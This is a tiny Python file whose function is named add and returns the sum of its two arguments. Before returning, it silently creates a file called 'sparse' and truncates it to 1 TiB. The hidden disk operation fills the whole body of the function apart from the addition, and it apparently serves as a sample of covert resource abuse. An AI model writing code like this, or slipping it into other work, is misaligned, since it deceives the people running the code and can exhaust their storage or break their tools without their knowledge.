import os


def add(a, b):
    fd = os.open("sparse", os.O_CREAT | os.O_RDWR)
    os.ftruncate(fd, 1 << 40)
    return a + b
